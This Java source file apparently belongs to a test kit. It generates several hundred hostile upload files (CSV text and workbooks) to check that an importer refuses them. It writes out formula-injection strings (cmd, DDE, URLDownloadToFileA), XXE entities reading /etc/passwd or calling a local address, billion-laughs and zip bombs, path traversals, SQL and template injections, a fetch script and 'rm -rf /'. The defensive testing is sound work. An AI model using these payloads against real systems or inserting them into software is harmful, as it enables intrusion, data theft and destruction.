package org.opencmas.testkit.hostile;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Some 350 hostile files for one upload, made anew each time and always the same: amounts that look like others, formulas, encodings,
 * entities, bombs, broken and foreign archives. Each is to be refused without a file left, a socket opened or memory held.
 */
public final class HostileFiles {
    private static final long SEED = 20_260_821;
    private static final int CUTS = 40;
    private static final int RANDOM = 60;
    private static final int MILLION = 1_000_000;
    /** Nobody listens there; a reader that follows it is found out by whoever watches its sockets. */
    private static final String ELSEWHERE = "http://127.0.0.1:" + OutgoingCalls.ELSEWHERE_PORT + "/x";

    private static final List<String> AMOUNTS = List.of(
            "\u0661\u0662.\u0663\u0664",
            "\uff11\uff12.\uff13\uff14",
            "\u0967.\u0966\u0966",
            "\ud835\udfcf.00",
            "1\u200b.00",
            "\u202e00.1",
            "1\u202d.00",
            "\u20661.00\u2069",
            "1.00\u200f",
            "\u200e1.00",
            "1\u00ad.00",
            "1\u2060.00",
            "1\ufeff.00",
            "1\u0301.00",
            "\u00b9.00",
            "\u2460.00",
            "\u00bd",
            "\u2160.00",
            "\u4e00",
            "l.00",
            "O.00",
            "1.0O",
            "1\u066b00",
            "1\u066c000.00",
            "1\u00b700",
            "1\u201a00",
            "\u22121.00",
            "\u20131.00",
            "\u20141.00",
            "--1.00",
            "+-1.00",
            "1..00",
            "1.0.0",
            "1,0,0,0",
            "1,00.00,",
            ",1.00",
            "1 0.00 0",
            "1_000.00",
            "1'000.00",
            "0x10",
            "0b1",
            "1e400",
            "1E999999999",
            "1e-400",
            "NaN",
            "Infinity",
            "-Infinity",
            "null",
            "true",
            "1.00 USD EUR",
            "EUR 1.00",
            "\u20ac1.00",
            "\uff041.00",
            "1.00%",
            "1/2",
            "1.00;2.00",
            "1.00\n2.00",
            "\t=1.00+1",
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=cmd|'/C calc'!A0",
            "9".repeat(400) + ".00",
            "0." + "0".repeat(400) + "1",
            "<b>1</b>",
            "1.00'; drop table posting; --",
            "${7*7}",
            "{{7*7}}",
            "%31.00",
            "&#49;.00",
            "\\u0031.00",
            "../../etc/passwd",
            "1.0000001");

    private static final List<String> FORMULAS = List.of(
            "HYPERLINK(\"" + ELSEWHERE + "\",\"1.00\")",
            "WEBSERVICE(\"" + ELSEWHERE + "\")",
            "IMPORTXML(\"" + ELSEWHERE + "\",\"//a\")",
            "cmd|'/C calc'!A0",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "'[http://127.0.0.1:9/x.xlsx]S'!A1",
            "'file:///etc/[passwd]S'!A1",
            "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"" + ELSEWHERE + "\")",
            "EXEC(\"calc\")",
            "REGISTER(\"kernel32\")",
            "IMAGE(\"" + ELSEWHERE + "\")",
            "RTD(\"x\",\"\",\"y\")",
            "INDIRECT(\"A1\")",
            "A1048577",
            "XFE1",
            "1/0",
            "A2",
            "SUM(A1:XFD1048576)",
            "REPT(\"9\",32767)",
            "LAMBDA(x,x(x))(LAMBDA(x,x(x)))");

    private static final List<String> TARGETS = List.of(
            "../../../../etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            ELSEWHERE,
            "\\\\127.0.0.1\\share\\x",
            "..\\..\\x",
            "worksheets/../../../x.xml",
            "worksheets/%2e%2e/x.xml",
            "worksheets/sheet1.xml/..",
            "C:\\x",
            "//127.0.0.1/x",
            "jar:file:/x!/y",
            "gopher://127.0.0.1:9/",
            "worksheets/none.xml",
            "",
            " ",
            "workbook.xml",
            "sharedStrings.xml",
            "?",
            "#x");

    private final HostileTable table;
    private final List<HostileFile> files = new ArrayList<>();

    private HostileFiles(HostileTable table) {
        this.table = table;
    }

    /** All of them, at least 300. */
    public static List<HostileFile> of(HostileTable table) {
        HostileFiles made = new HostileFiles(table);
        made.amounts();
        made.encodings();
        made.shapes();
        made.formulasAndTargets();
        made.entities();
        made.bombs();
        made.foreign();
        made.broken();
        made.mergedCells();
        return List.copyOf(made.files);
    }

    /** A workbook of the same making that is sound, which shows that the others are refused for what is hostile in them. */
    public static HostileFile sound(HostileTable table) {
        return new HostileFile(
                "sound", true, HostileWorkbook.of(table, cells(table.row())).bytes());
    }

    private void text(String name, byte[] bytes) {
        files.add(new HostileFile(name, false, bytes));
    }

    private void workbook(String name, byte[] bytes) {
        files.add(new HostileFile(name, true, bytes));
    }

    private static List<String> cells(List<String> texts) {
        return texts.stream().map(HostileWorkbook::text).toList();
    }

    private List<String> cellsWith(String amountCell) {
        List<String> cells = new ArrayList<>(cells(table.row()));
        cells.set(table.amountColumn(), amountCell);
        return cells;
    }

    private void amounts() {
        for (String amount : AMOUNTS) {
            List<String> row = table.rowWith(amount);
            text("amount " + amount, table.text(row).getBytes(StandardCharsets.UTF_8));
            workbook("amount " + amount, HostileWorkbook.of(table, cells(row)).bytes());
        }
    }

    private void encodings() {
        String sound = table.text(table.row());
        for (String name : List.of("UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE", "IBM037")) {
            text("in " + name, sound.getBytes(Charset.forName(name)));
        }
        Map<String, int[]> wrong = Map.of(
                "Latin-1", new int[] {0xe9},
                "an overlong solidus", new int[] {0xc0, 0xaf},
                "an overlong zero", new int[] {0xe0, 0x80, 0x80},
                "half a surrogate pair", new int[] {0xed, 0xa0, 0x80},
                "a sign cut off", new int[] {0xe2, 0x82},
                "a byte that goes on from nothing", new int[] {0x80},
                "beyond the last sign", new int[] {0xf4, 0x90, 0x80, 0x80},
                "a byte that none has", new int[] {0xff});
        wrong.forEach((name, bytes) -> text(name, joined(sound, bytes)));
        text("a zero", table.text(table.rowWith("1\0.00")).getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] joined(String text, int[] more) {
        byte[] begin = text.getBytes(StandardCharsets.UTF_8);
        byte[] all = Arrays.copyOf(begin, begin.length + more.length);
        for (int i = 0; i < more.length; i++) {
            all[begin.length + i] = (byte) more[i];
        }
        return all;
    }

    private void shapes() {
        text("a million columns", ("x" + ",".repeat(MILLION) + "\r\n").getBytes(StandardCharsets.US_ASCII));
        text(
                "a million columns below the titles",
                (table.text(table.row()) + ",x".repeat(MILLION)).getBytes(StandardCharsets.UTF_8));
        text(
                "a quote that does not end",
                (table.text(table.row()) + "\"" + "x".repeat(MILLION)).getBytes(StandardCharsets.UTF_8));
        text("nothing", new byte[0]);
        text("a million empty lines", "\r\n".repeat(MILLION).getBytes(StandardCharsets.US_ASCII));
        workbook(
                "a million columns",
                HostileWorkbook.withSheet(
                                HostileWorkbook.sheet("", "<row r=\"1\">" + "<c/>".repeat(MILLION) + "</row>"))
                        .bytes());
    }

    private void mergedCells() {
        String sheet = HostileWorkbook.sheet("", "mergeCell ".repeat(MILLION / 2));
        workbook(
                "merged cells without an end",
                HostileWorkbook.withSheet(sheet.substring(0, sheet.indexOf("</sheetData>")))
                        .bytes());
    }

    private void formulasAndTargets() {
        for (String formula : FORMULAS) {
            workbook(
                    "formula " + formula,
                    HostileWorkbook.of(table, cellsWith(HostileWorkbook.formula(formula)))
                            .bytes());
            text("formula " + formula, table.text(table.rowWith("=" + formula)).getBytes(StandardCharsets.UTF_8));
        }
        for (String target : TARGETS) {
            workbook(
                    "sheet at " + target,
                    HostileWorkbook.of(table, cells(table.row()))
                            .with(HostileWorkbook.RELATIONS, HostileWorkbook.relationsTo(target))
                            .bytes());
        }
    }

    /** Where the amount stands, the entity is asked for. */
    private void entities() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 \"ha\">");
        for (int i = 1; i < 10; i++) {
            laughs.append(
                    "<!ENTITY e%d \"%s\">".formatted(i, "&e%d;".formatted(i - 1).repeat(10)));
        }
        Map<String, String> kinds = Map.of(
                "a billion laughs", laughs + "<!ENTITY e \"&e9;\">]>",
                "a long entity many times",
                        "<!DOCTYPE x [<!ENTITY e0 \"" + "a".repeat(50_000) + "\"><!ENTITY e \"" + "&e0;".repeat(5_000)
                                + "\">]>",
                "an entity in itself", "<!DOCTYPE x [<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">]>",
                "a file as an entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "a device as an entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///dev/zero\">]>",
                "an address as an entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + ELSEWHERE + "\">]>",
                "a definition elsewhere", "<!DOCTYPE x SYSTEM \"" + ELSEWHERE + "\">",
                "a parameter elsewhere", "<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + ELSEWHERE + "\"> %p;]>");
        kinds.forEach((name, before) -> {
            workbook(
                    name + ", in the sheet",
                    HostileWorkbook.withSheet(HostileWorkbook.sheet(
                                    before, rowsWith("<c t=\"inlineStr\"><is><t>&e;</t></is></c>")))
                            .bytes());
            workbook(
                    name + ", in the texts",
                    HostileWorkbook.withSheet(HostileWorkbook.sheet("", rowsWith("<c t=\"s\"><v>0</v></c>")))
                            .with(HostileWorkbook.STRINGS, HostileWorkbook.strings(before, "&e;"))
                            .bytes());
        });
    }

    private String rowsWith(String amountCell) {
        return HostileWorkbook.row(1, cells(table.titles())) + HostileWorkbook.row(2, cellsWith(amountCell));
    }

    private void bombs() {
        HostileWorkbook sound = HostileWorkbook.of(table, cells(table.row()));
        workbook("texts that unpack to 120 MB", sound.blownUp(HostileWorkbook.STRINGS, 120));
        workbook(
                "a part that nobody reads and that unpacks to 120 MB",
                HostileWorkbook.of(table, cells(table.row()))
                        .with("docProps/app.xml", "")
                        .blownUp("docProps/app.xml", 120));
    }

    private void foreign() {
        Map<String, String> begins = Map.ofEntries(
                Map.entry("PDF", "%PDF-1.7\n"),
                Map.entry("a program for Windows", "MZ\u0090\0"),
                Map.entry("a program for Linux", "\u007fELF\u0002"),
                Map.entry("PNG", "\u0089PNG\r\n\u001a\n"),
                Map.entry("gzip", "\u001f\u008b\u0008"),
                Map.entry("RAR", "Rar!\u001a\u0007"),
                Map.entry("7z", "7z\u00bc\u00af\u0027\u001c"),
                Map.entry("an old workbook", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"),
                Map.entry("a web page", "<!DOCTYPE html><script>fetch('" + ELSEWHERE + "')</script>"),
                Map.entry("a drawing with a script", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
                Map.entry("RTF", "{\\rtf1\\object}"),
                Map.entry("a shell script", "#!/bin/sh\nrm -rf /\n"),
                Map.entry("a Java class", "\u00ca\u00fe\u00ba\u00be\0\0\0E"),
                Map.entry("serialized objects", "\u00ac\u00ed\0\u0005sr"),
                Map.entry("an empty archive", "PK\u0005\u0006" + "\0".repeat(18)));
        begins.forEach((name, begin) -> {
            byte[] bytes = (begin + "\0\u0001\u0002").getBytes(StandardCharsets.ISO_8859_1);
            text(name, bytes);
            workbook(name, bytes);
        });
    }

    private void broken() {
        byte[] sound = sound(table).bytes();
        for (int cut = 1; cut <= CUTS; cut++) {
            workbook(
                    "cut off after part " + cut + " of " + (CUTS + 1),
                    Arrays.copyOf(sound, sound.length * cut / (CUTS + 1)));
        }
        Random random = new Random(SEED);
        for (int i = 0; i < RANDOM; i++) {
            byte[] bytes = new byte[200 + random.nextInt(2_000)];
            random.nextBytes(bytes);
            bytes[bytes.length - 1] = (byte) 0xff;
            text("by chance " + i, bytes);
        }
    }
}
